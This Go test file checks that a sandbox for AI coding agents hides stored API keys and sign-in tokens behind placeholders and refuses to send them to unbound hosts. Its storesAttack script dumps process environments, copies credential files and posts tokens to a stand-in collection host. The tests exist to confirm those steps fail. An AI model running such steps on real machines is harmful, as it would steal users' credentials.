package tests

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// The credential stores of OpenCode, Pi, Amp and Copilot CLI are session
// copies inside the jail: placeholders in place of every key and token,
// the real values sent by the proxy to each provider's hosts only. The
// formats were read from the installed packages:
//   - OpenCode (opencode-linux-x64/bin/opencode, its bundled auth service
//     and ChatGPT sign-in): ~/.local/share/opencode/auth.json, {"PROVIDER":
//     {"type": "api", "key"} | {"type": "oauth", "refresh", "access",
//     "expires"} | {"type": "wellknown", "key", "token"}};
//   - Pi (@mariozechner/pi-coding-agent dist/core/auth-storage.js and
//     @mariozechner/pi-ai dist/utils/oauth/anthropic.js):
//     ~/.pi/agent/auth.json, {"PROVIDER": {"type": "api_key", "key"} |
//     {"type": "oauth", "refresh", "access", "expires"}}, the Anthropic
//     sign-in refreshed with a JSON POST to
//     https://platform.claude.com/v1/oauth/token;
//   - Amp (@ampcode/cli-linux-x64/amp, its file secrets storage):
//     ~/.local/share/amp/secrets.json, {"apiKey@https://ampcode.com/": KEY};
//   - Copilot CLI (its runtime prebuilds/linux-x64/runtime.node names
//     copilotTokens in ~/.copilot/config.json, JSON with comments).

// storesHost is a host no stored credential is bound to: every
// placeholder sent there must be refused.
const storesHost = "collect.example.test"

// storesPKI is a CA and a leaf for the hosts the attack tests send
// placeholders to.
var storesPKI = &lazyPKI{what: "credential stores PKI", caName: "jail credential stores tests CA",
	names: []string{storesHost, "api.openai.com", "api.anthropic.com", "ampcode.com", "api.github.com"}}

// storeCase is one agent's credential store, as its CLI writes it, with
// real values in it.
type storeCase struct {
	profile, rel, content string
	real                  []string
	// shapes must each match a placeholder of the copy inside.
	shapes []string
	// cross is another provider's host (allowed by the profile), to which
	// every placeholder is sent too.
	cross string
	// kept are values the copy must keep as they are.
	kept []string
	// crossReal is the real value of the one placeholder bound to the
	// cross host, if any: that request reaches the mock with it injected.
	crossReal string
}

func storeCases() []storeCase {
	anthropicKey := realValue("ANTHROPIC_API_KEY")
	openaiAccess, openaiRefresh := "openai-access-"+uniq()+uniq(), "openai-refresh-"+uniq()+uniq()
	unknown := "unknown-provider-key-" + uniq() + uniq()
	k := newSignInTokens()
	piKey := "sk-proj-" + uniq() + uniq() + uniq()
	ampKey := "sgamp_user_" + uniq() + uniq()
	gh := "gho_" + regexp.MustCompile(`[^A-Za-z0-9]`).ReplaceAllString(uniq()+uniq()+uniq(), "")[:36]
	return []storeCase{{
		profile: "opencode", rel: ".local/share/opencode/auth.json", cross: "api.openai.com",
		content: fmt.Sprintf(`{"anthropic":{"type":"api","key":%q},"openai":{"type":"oauth","refresh":%q,"access":%q,"expires":1,"accountId":"acct-1"},`+
			`"someprovider":{"type":"api","key":%q},"https://gateway.example.test":{"type":"wellknown","key":"GATEWAY_TOKEN","token":%q}}`,
			anthropicKey, openaiRefresh, openaiAccess, unknown, "wk-"+unknown),
		real: []string{anthropicKey, openaiAccess, openaiRefresh, unknown}, shapes: []string{`^sk-ant-api03-jail`, `^jail-secret-OPENCODE_AUTH_ACCESS_OPENAI-`},
		kept: []string{`"GATEWAY_TOKEN"`, `"acct-1"`},
	}, {
		profile: "pi", rel: ".pi/agent/auth.json", cross: "api.openai.com",
		content: fmt.Sprintf(`{"anthropic":{"type":"oauth","refresh":%q,"access":%q,"expires":%d},"openai":{"type":"api_key","key":%q},"groq":{"type":"api_key","key":"!pass show groq"}}`,
			k.Refresh, k.Access, time.Now().Add(time.Hour).UnixMilli(), piKey),
		real: []string{k.Refresh, k.Access, piKey}, shapes: []string{`^sk-ant-oat01-jail`, `^sk-ant-ort01-jail`, `^sk-proj-jail`},
		kept: []string{`"!pass show groq"`}, crossReal: piKey,
	}, {
		profile: "amp", rel: ".local/share/amp/secrets.json", cross: "api.github.com",
		content: fmt.Sprintf(`{"apiKey@https://ampcode.com/":%q,"apiKey@https://amp.example.test/":%q}`, ampKey, "other-"+ampKey),
		real:    []string{ampKey}, shapes: []string{`^jail-secret-AMP_SECRET_APIKEY_HTTPS___AMPCODE.COM_-`},
	}, {
		profile: "copilot", rel: ".copilot/config.json", cross: "ampcode.com",
		content: "// User settings belong in settings.json.\n// This file is managed automatically.\n" +
			fmt.Sprintf(`{"firstLaunchAt":"2026-01-01T00:00:00.000Z","copilotTokens":{"https://github.com:octo":%q},"lastLoggedInUser":{"host":"https://github.com","login":"octo"}}`, gh) + "\n",
		real: []string{gh}, shapes: []string{`^gho_jail`}, kept: []string{`"login":"octo"`},
	}}
}

// storesAttack is the shell the attack runs inside: the file, its
// strings, every process's environment, a copy into the project, each
// placeholder sent to storesHost and to the cross host, then an
// overwrite of the file.
func storesAttack(c storeCase) string {
	return `f=~/` + c.rel + `
echo "@@FILE $(tr -d '\n' < "$f")"
strings "$f" > ./strings-of-store.txt
cat /proc/*/environ > ./environ-dump 2>/dev/null
cp "$f" ./copied-store.json
for ph in $(grep -oE '[A-Za-z0-9_.-]*jail[A-Za-z0-9_.-]*' "$f" | sort -u); do
  for h in ` + storesHost + ` ` + c.cross + `; do
    code=$(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $ph" -H "x-api-key: $ph" -X POST "https://$h/v1/messages" -d '{}' 2>&1)
    echo "@@SENT $h $code rc=$?"
  done
done
echo '{"planted":"by-the-jail"}' > "$f"
`
}

// TestSignInStoresPlaceholders: for each store, inside the jail the
// file, its strings, every environment and a copy into the project hold
// no real value, only placeholders (shaped where the value has a known
// shape), values that are no secret (a variable's name, a command) kept;
// every placeholder sent to a host it is not bound to (a neutral host,
// another provider's) is refused by the proxy and reaches no server; the
// jail's overwrite of its copy never reaches the host file.
func TestSignInStoresPlaceholders(t *testing.T) {
	t.Parallel()
	for _, c := range storeCases() {
		t.Run(c.profile, func(t *testing.T) {
			t.Parallel()
			forEachRunner(t, func(t *testing.T, s *Sandbox) {
				t.Parallel()
				attackStore(t, s, c)
			})
		})
	}
}

func attackStore(t *testing.T, s *Sandbox, c storeCase) {
	t.Helper()
	mock := newSignInMock(t, storesPKI, func(w http.ResponseWriter, r *http.Request, body []byte) { w.WriteHeader(http.StatusTeapot) })
	trustCA(t, s, storesPKI.get(t), "stores-bundle.pem")
	writeJailJSON(t, s, map[string]any{"network": map[string]any{"allow": []string{storesHost, c.cross},
		"hosts": map[string]string{storesHost: mock.addr, c.cross: mock.addr}}})
	host := filepath.Join(s.Home, c.rel)
	s.WriteFile(host, c.content, 0o600)
	r := s.Jail("--profile", c.profile, "--", "sh", "-c", storesAttack(c))
	var inProject strings.Builder
	for _, f := range []string{"copied-store.json", "strings-of-store.txt", "environ-dump"} {
		b, err := os.ReadFile(filepath.Join(s.Project, f))
		if err != nil || len(b) == 0 {
			t.Errorf("%s: the jail left no %s in the project (%v):\n%s", c.profile, f, err, r)
		}
		inProject.Write(b)
	}
	for _, v := range c.real {
		if strings.Contains(r.Stdout+r.Stderr+inProject.String(), v) {
			t.Errorf("%s: a real value (%.12s…) appears inside (the file, its strings, an environment or the project's copy):\n%s", c.profile, v, r)
		}
	}
	inside := afterMark(r.Stdout, "@@FILE ")
	for _, want := range c.kept {
		if !strings.Contains(inside, want) {
			t.Errorf("%s: the copy inside lost %s: %s", c.profile, want, inside)
		}
	}
	phs := regexp.MustCompile(`[A-Za-z0-9_.-]*jail[A-Za-z0-9_.-]*`).FindAllString(inside, -1)
	for _, shape := range c.shapes {
		if !containsMatch(phs, shape) {
			t.Errorf("%s: no placeholder inside matches %s: %s", c.profile, shape, inside)
		}
	}
	checkStoreRefusals(t, s, c, r, len(phs), mock)
	if after, err := os.ReadFile(host); err != nil || string(after) != c.content {
		t.Errorf("%s: the host file changed through the jail (%v):\nbefore %s\nafter  %s", c.profile, err, c.content, after)
	}
}

// checkStoreRefusals fails unless every placeholder sent to storesHost
// and the cross host was refused by the proxy, none reaching the mock.
func checkStoreRefusals(t *testing.T, s *Sandbox, c storeCase, r Result, n int, mock *signInServer) {
	t.Helper()
	bound := 0 // placeholders bound to the cross host
	if c.crossReal != "" {
		bound = 1
	}
	sent := strings.Count(r.Stdout, "@@SENT ")
	if n == 0 || sent != 2*n || strings.Count(r.Stdout, " 418") != bound {
		t.Errorf("%s: %d placeholders, %d requests sent, want every one refused but %d:\n%s\nthe mock saw %v", c.profile, n, sent, bound, r, mock.requests())
	}
	got := mock.requests()
	if len(got) != bound || bound == 1 && got[0].Header.Get("Authorization") != "Bearer "+c.crossReal {
		t.Errorf("%s: the mock saw %v, want only the request to the key's own host, with the real key injected", c.profile, got)
	}
	refused := map[string]int{}
	for _, d := range decisions(t, s, "") {
		if d.Verdict == "deny" && strings.HasPrefix(d.Rule, "secret ") {
			refused[d.Host]++
		}
	}
	if refused[storesHost] < n || refused[c.cross] < n-bound {
		t.Errorf("%s: placeholders refused by host %v, want %d at %s and %d at %s\n%s", c.profile, refused, n, storesHost, n-bound, c.cross, dumpDecisions(decisions(t, s, "")))
	}
}

func containsMatch(list []string, re string) bool {
	for _, v := range list {
		if regexp.MustCompile(re).MatchString(v) {
			return true
		}
	}
	return false
}

// opencodeStoreSession sets up OpenCode signed in only through its
// auth.json (no key in the environment): the anthropic provider's key.
func opencodeStoreSession(t *testing.T, s *Sandbox) (*messagesSession, sessionRun, string) {
	t.Helper()
	cache := installedAgents(t)
	key := realValue("ANTHROPIC_API_KEY")
	m := newMessagesSession(t, "bash", apiKeyAuth(key))
	ca, hosts := sessionSetup(t, s, m, anthropicHost)
	s.WriteFile(filepath.Join(s.Home, ".local/share/opencode/auth.json"), fmt.Sprintf(`{"anthropic":{"type":"api","key":%q}}`, key), 0o600)
	return m, sessionRun{
		JailArgs: []string{"--allow-read", cache},
		Argv:     append([]string{agentBin(cache, agentNamed(t, "opencode"))}, opencodeSessionFlags...),
		Hosts:    hosts, CA: ca, Check: sessionDone(s),
	}, key
}

// piStoreSession sets up Pi signed in to Anthropic through its auth.json
// only, its access token expired: Pi refreshes at the token endpoint
// (the mock answers only the real refresh token) and the Messages API
// accepts only the new real access token, as "Authorization: Bearer".
// With a sign-in token Pi gives the model Claude Code's tool names: its
// bash tool is "Bash".
func piStoreSession(t *testing.T, s *Sandbox, results *reqLog[string]) (*echoServer, sessionRun, signInTokens) {
	t.Helper()
	cache := installedAgents(t)
	k := newSignInTokens()
	api := toolTurnsMock(func(r *http.Request) bool { return r.Header.Get("Authorization") == "Bearer "+k.NewAccess },
		"Bash", map[string]string{"command": sessionProofCmd}, results)
	token := oauthTokenMock(k)
	mock := newSessionMock(t, sessionPKI, func(w http.ResponseWriter, r *http.Request, body []byte) {
		if r.Host == signInTokenHost {
			token(w, r, body)
			return
		}
		api(w, r, body)
	})
	ca := trustCA(t, s, sessionPKI.get(t), "pi-store-bundle.pem")
	hosts := map[string]string{anthropicHost: mock.Addr(), signInTokenHost: mock.Addr()}
	writeJailJSON(t, s, map[string]any{"network": map[string]any{"allow": []string{signInTokenHost}, "hosts": hosts}})
	s.WriteFile(filepath.Join(s.Home, ".pi/agent/auth.json"), fmt.Sprintf(`{"anthropic":{"type":"oauth","refresh":%q,"access":%q,"expires":%d}}`,
		k.Refresh, k.Access, time.Now().Add(-time.Hour).UnixMilli()), 0o600)
	return mock, sessionRun{
		JailArgs: []string{"--allow-read", cache},
		Argv:     piArgs(agentBin(cache, agentNamed(t, "pi"))),
		Hosts:    hosts, CA: ca, Check: sessionOutputCheck(s),
	}, k
}

func init() {
	agentSessions = append(agentSessions, agentSession{Name: "opencode-store", Prepare: func(t *testing.T, s *Sandbox) sessionRun {
		_, run, _ := opencodeStoreSession(t, s)
		return run
	}}, agentSession{Name: "pi-store", Prepare: func(t *testing.T, s *Sandbox) sessionRun {
		var results reqLog[string]
		_, run, _ := piStoreSession(t, s, &results)
		return run
	}})
}

// TestSignInStoresOpenCodeSession: opencode run with no key in the
// environment authenticates from its auth.json alone: the session runs
// the bash call, the API sees only the real key (never a placeholder),
// and the host file is as it was.
func TestSignInStoresOpenCodeSession(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		m, run, key := opencodeStoreSession(t, s)
		host := filepath.Join(s.Home, ".local/share/opencode/auth.json")
		before, _ := os.ReadFile(host)
		r := runSession(t, s, run)
		checkSession(t, s, r, m, key)
		if after, _ := os.ReadFile(host); string(after) != string(before) {
			t.Errorf("the host's auth.json changed: %s", after)
		}
	})
}

// TestSignInStoresPiSession: pi -p with no key in the environment, signed
// in to Anthropic in its auth.json with an expired access token,
// refreshes through the proxy (the token endpoint gets the real refresh
// token), runs the bash call with the new real access token, and prints
// the final text; no mock saw a placeholder; the host file ends with the
// new real tokens and a new expiry, its other fields kept, mode 0600.
func TestSignInStoresPiSession(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		var results reqLog[string]
		mock, run, k := piStoreSession(t, s, &results)
		r := runSession(t, s, run)
		checkToolSession(t, s, "pi", r, results.Requests(), mock)
		k.noReal(t, "the session's output", r.Stdout+r.Stderr)
		refreshed := 0
		for _, req := range mock.Requests() {
			refreshed += strings.Count(req.Body, k.Refresh)
		}
		if refreshed == 0 {
			t.Errorf("pi: the token endpoint never got the real refresh token:\n%s", mock.dump())
		}
		host := filepath.Join(s.Home, ".pi/agent/auth.json")
		doc, raw := hostJSON(t, host)
		expires, _ := doc["anthropic"].(map[string]any)["expires"].(float64)
		if jsonAt(doc, "anthropic", "access") != k.NewAccess || jsonAt(doc, "anthropic", "refresh") != k.NewRefresh ||
			jsonAt(doc, "anthropic", "type") != "oauth" || expires < float64(time.Now().UnixMilli()) {
			t.Errorf("pi: the host's auth.json after the refresh, want the new real tokens and a new expiry: %s", raw)
		}
		checkFileMode(t, host)
	})
}

// TestSignInStoresAmpSession: amp -x with no key in the environment reads
// its key from secrets.json: ampcode.com gets the real key on every call
// (the mock answers nothing else) and never a placeholder; the CLI goes
// as far as the thread the mock refuses; the host file is as it was.
func TestSignInStoresAmpSession(t *testing.T) {
	t.Parallel()
	cache := installedAgents(t)
	bin := agentBin(cache, agentNamed(t, "amp"))
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		mock := newSessionMock(t, ampPKI, ampMock(ampKey))
		trustCA(t, s, ampPKI.get(t), "amp-store-bundle.pem")
		writeJailJSON(t, s, map[string]any{"network": map[string]any{"hosts": map[string]string{ampHost: mock.Addr()}}})
		host := filepath.Join(s.Home, ".local/share/amp/secrets.json")
		content, _ := json.Marshal(map[string]string{"apiKey@https://ampcode.com/": ampKey})
		s.WriteFile(host, string(content), 0o600)
		r := runAgent(t, s, "--allow-read", cache, "--", bin, "-x", "write the proof", "--no-ide", "--no-notifications")
		if r.Code == 0 || !strings.Contains(r.Stderr, ampRefusal) || strings.Contains(r.Stdout+r.Stderr, ampKey) {
			t.Errorf("jail -- amp -x: want it signed in from secrets.json and stopped at the refused thread (%q):\n%s\nthe mock saw:\n%s", ampRefusal, r, mock.dump())
		}
		for _, req := range mock.Requests() {
			if req.Header.Get("Authorization") != "Bearer "+ampKey || sessionPlaceholderRE.MatchString(req.String()) {
				t.Errorf("amp: a request reached ampcode.com without the real key, or with a placeholder: %s", req)
			}
		}
		if len(mock.At("/api/internal")) == 0 {
			t.Errorf("amp: the mock saw no internal API call:\n%s", mock.dump())
		}
		if after, _ := os.ReadFile(host); string(after) != string(content) {
			t.Errorf("amp: the host's secrets.json changed: %s", after)
		}
	})
}

// TestSignInStoresAmpMissing: with no secrets.json on the host, the jail
// sees {} (Amp fails on an empty file) held read-only: a key written
// there from inside never becomes the host's, where Amp run later would
// send it along.
func TestSignInStoresAmpMissing(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		r := s.Jail("--profile", "amp", "--", "sh", "-c", `f=~/.local/share/amp/secrets.json
echo "@@HELD $(cat "$f")"
echo '{"apiKey@https://ampcode.com/":"planted-by-the-jail"}' > "$f" || echo "@@REFUSED"`)
		if afterMark(r.Stdout, "@@HELD ") != "{}" || !strings.Contains(r.Stdout, "@@REFUSED") {
			t.Errorf("inside, a missing secrets.json: want {} held read-only:\n%s", r)
		}
		hostAbsent(t, filepath.Join(s.Home, ".local/share/amp/secrets.json"))
	})
}

// TestSignInStoresSharedEndpoint: Claude Code and Pi both sign in to
// Anthropic, whose token endpoint is the same URL. Run under both
// profiles, a refresh with Pi's refresh token placeholder (curl, as Pi
// sends it: JSON to platform.claude.com/v1/oauth/token) gets the real
// refresh token sent, answers new placeholders only, and saves the new
// real tokens into Pi's auth.json, not into Claude Code's file, which
// stays as it was.
func TestSignInStoresSharedEndpoint(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		k, claude := newSignInTokens(), newSignInTokens()
		mock := newSignInMock(t, signInPKI, oauthTokenMock(k))
		trustCA(t, s, signInPKI.get(t), "shared-endpoint-bundle.pem")
		writeJailJSON(t, s, map[string]any{"network": map[string]any{"allow": []string{signInTokenHost}, "hosts": map[string]string{signInTokenHost: mock.addr}}})
		claudeFile := filepath.Join(s.Home, ".claude/.credentials.json")
		claudeBefore := claudeCredentials(claude.Access, claude.Refresh, time.Now().Add(time.Hour).UnixMilli())
		s.WriteFile(claudeFile, claudeBefore, 0o600)
		piFile := filepath.Join(s.Home, ".pi/agent/auth.json")
		s.WriteFile(piFile, fmt.Sprintf(`{"anthropic":{"type":"oauth","refresh":%q,"access":%q,"expires":1}}`, k.Refresh, k.Access), 0o600)
		r := s.Jail("--profile", "claude,pi", "--", "sh", "-c", `
rt=$(grep -o '"refresh":"[^"]*"' ~/.pi/agent/auth.json | cut -d'"' -f4)
echo "@@ANSWER $(curl -s -H 'Content-Type: application/json' https://`+signInTokenHost+`/v1/oauth/token -d "{\"grant_type\":\"refresh_token\",\"refresh_token\":\"$rt\",\"client_id\":\"pi\"}")"`)
		k.noReal(t, "the jail's output", r.Stdout+r.Stderr)
		var answer map[string]any
		if err := json.Unmarshal([]byte(afterMark(r.Stdout, "@@ANSWER ")), &answer); err != nil ||
			!strings.HasPrefix(jsonAt(answer, "access_token"), "sk-ant-oat01-jail") || !strings.HasPrefix(jsonAt(answer, "refresh_token"), "sk-ant-ort01-jail") {
			t.Fatalf("the refresh inside: want new placeholders (%v):\n%s\nthe mock saw %v", err, r, mock.requests())
		}
		doc, raw := hostJSON(t, piFile)
		if jsonAt(doc, "anthropic", "access") != k.NewAccess || jsonAt(doc, "anthropic", "refresh") != k.NewRefresh {
			t.Errorf("Pi's auth.json after the refresh, want the new real tokens: %s", raw)
		}
		if after, _ := os.ReadFile(claudeFile); string(after) != claudeBefore {
			t.Errorf("Claude Code's credentials changed by Pi's refresh: %s", after)
		}
	})
}

// storesOpenAIPKI is a CA and a leaf for OpenAI's sign-in host.
var storesOpenAIPKI = &lazyPKI{what: "OpenAI sign-in PKI (stores)", caName: "jail credential stores OpenAI CA", names: []string{"auth.openai.com"}}

// TestSignInStoresOpenCodeRefresh: OpenCode's ChatGPT sign-in in its
// auth.json ("openai", type oauth) refreshes as OpenCode does (a form
// POST of grant_type, refresh_token and client_id to
// auth.openai.com/oauth/token, read from its binary's refresh function):
// the endpoint gets the real refresh token, the jail gets new
// placeholders only, and the host file gets the new real tokens and a
// new expiry (now + expires_in), its other fields and providers kept.
func TestSignInStoresOpenCodeRefresh(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		real := realTokens{"access": "oc-access-" + uniq() + uniq(), "refresh": "oc-refresh-" + uniq() + uniq(),
			"new access": "oc-new-access-" + uniq() + uniq(), "new refresh": "oc-new-refresh-" + uniq() + uniq()}
		mock := newSignInMock(t, storesOpenAIPKI, func(w http.ResponseWriter, r *http.Request, body []byte) {
			w.Header().Set("Content-Type", "application/json")
			if r.URL.Path != "/oauth/token" || !strings.Contains(string(body), "refresh_token="+real["refresh"]) {
				w.WriteHeader(http.StatusBadRequest)
				fmt.Fprintln(w, `{"error":"invalid_grant"}`)
				return
			}
			writeJSON(w, map[string]any{"access_token": real["new access"], "refresh_token": real["new refresh"], "expires_in": 864000})
		})
		trustCA(t, s, storesOpenAIPKI.get(t), "opencode-refresh-bundle.pem")
		writeJailJSON(t, s, map[string]any{"network": map[string]any{"allow": []string{"auth.openai.com"}, "hosts": map[string]string{"auth.openai.com": mock.addr}}})
		host := filepath.Join(s.Home, ".local/share/opencode/auth.json")
		s.WriteFile(host, fmt.Sprintf(`{"openai":{"type":"oauth","refresh":%q,"access":%q,"expires":1,"accountId":"acct-1"},"anthropic":{"type":"api","key":"sk-ant-api03-keptKeptKeptKeptKeptKept0123"}}`,
			real["refresh"], real["access"]), 0o600)
		r := s.Jail("--profile", "opencode", "--", "sh", "-c", `
rt=$(grep -o '"refresh":"[^"]*"' ~/.local/share/opencode/auth.json | cut -d'"' -f4)
echo "@@ANSWER $(curl -s https://auth.openai.com/oauth/token -d grant_type=refresh_token -d "refresh_token=$rt" -d client_id=app_test)"`)
		real.noReal(t, "the jail's output", r.Stdout+r.Stderr)
		var answer map[string]any
		if err := json.Unmarshal([]byte(afterMark(r.Stdout, "@@ANSWER ")), &answer); err != nil ||
			!strings.HasPrefix(jsonAt(answer, "access_token"), "jail-secret-OPENCODE_AUTH_ACCESS_OPENAI-") {
			t.Fatalf("the refresh inside: want new placeholders (%v):\n%s\nthe mock saw %v", err, r, mock.requests())
		}
		doc, raw := hostJSON(t, host)
		expires, _ := doc["openai"].(map[string]any)["expires"].(float64)
		if jsonAt(doc, "openai", "access") != real["new access"] || jsonAt(doc, "openai", "refresh") != real["new refresh"] ||
			jsonAt(doc, "openai", "accountId") != "acct-1" || jsonAt(doc, "anthropic", "key") != "sk-ant-api03-keptKeptKeptKeptKeptKept0123" ||
			expires < float64(time.Now().Add(239*time.Hour).UnixMilli()) {
			t.Errorf("the host's auth.json after the refresh: want the new real tokens, a new expiry, the rest kept: %s", raw)
		}
		checkFileMode(t, host)
	})
}
